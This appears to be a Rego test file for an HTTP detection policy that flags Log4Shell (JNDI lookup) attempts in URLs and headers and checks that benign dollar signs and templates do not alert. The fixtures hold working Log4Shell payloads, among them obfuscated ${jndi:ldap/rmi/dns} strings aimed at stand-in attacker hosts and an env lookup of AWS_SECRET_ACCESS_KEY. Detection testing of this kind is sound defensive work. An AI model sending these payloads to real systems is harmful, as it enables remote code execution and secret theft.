package sentinel.http.log4shell_test

import data.sentinel.http.log4shell
import data.sentinel.http.request_test.get
import data.sentinel.http.request_test.response
import data.sentinel.http.request_test.with_header
import data.sentinel.http.request_test.with_user_agent

test_jndi_lookup_in_the_user_agent_alerts if {
	log4shell.violation == {{
		"id": "HTTPLog4ShellAttempt",
		"severity": "critical",
		"title": "Log4Shell (JNDI lookup) attempt in an HTTP request",
		"policy": "sentinel.http.log4shell",
		"summary": "world 203.0.113.77 sent HTTP GET / to shop/frontend with a Log4j lookup in header User-Agent",
		"description": log4shell.violation[_].description,
		"mitre": "T1190",
	}} with input as with_user_agent(get("/"), "${jndi:ldap://203.0.113.5:1389/Exploit}")
}

test_lookups_in_the_url_alert if {
	every target in [
		"/?x=${jndi:ldap://evil.example/a}",
		"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
		"/?x=%2524%257Bjndi:ldap://evil/a%257D",
		"/${jndi:ldap://evil/a}",
		"/?x=${${lower:j}ndi:ldap://evil/a}",
		"/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}",
		"/?x=${j${::-n}di:dns://evil/a}",
		"/?x=${env:AWS_SECRET_ACCESS_KEY}",
	] {
		some v in log4shell.violation with input as get(target)
		endswith(v.summary, "in the URL")
	}
}

test_obfuscated_lookups_in_any_header_alert if {
	d := with_header(get("/"), "X-Api-Version", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}")
	some v in log4shell.violation with input as d
	endswith(v.summary, "in header X-Api-Version")
}

test_every_place_is_named if {
	d := with_header(with_header(get("/?x=${jndi:ldap://e/a}"), "Referer", "${jndi:dns://e/b}"), "X-Api-Version", "${jndi:rmi://e/c}")
	some v in log4shell.violation with input as d
	endswith(v.summary, "in the URL and header Referer and header X-Api-Version")
}

test_dollar_signs_and_templates_do_not_alert if {
	every target in ["/?price=$100", "/?tpl=${HOSTNAME}", "/search?q=%24100+gift+card", "/?x=%7B%22a%22%3A1%7D"] {
		count(log4shell.violation) == 0 with input as get(target)
	}
	count(log4shell.violation) == 0 with input as with_user_agent(get("/"), "Mozilla/5.0 ${HOSTNAME}")
}

test_redacted_headers_do_not_alert if {
	count(log4shell.violation) == 0 with input as with_header(get("/"), "Authorization", "HUBBLE_REDACTED")
}

test_no_alert_on_the_response if {
	count(log4shell.violation) == 0 with input as response(with_user_agent(get("/?x=${jndi:ldap://e/a}"), "${jndi:ldap://e/a}"))
}
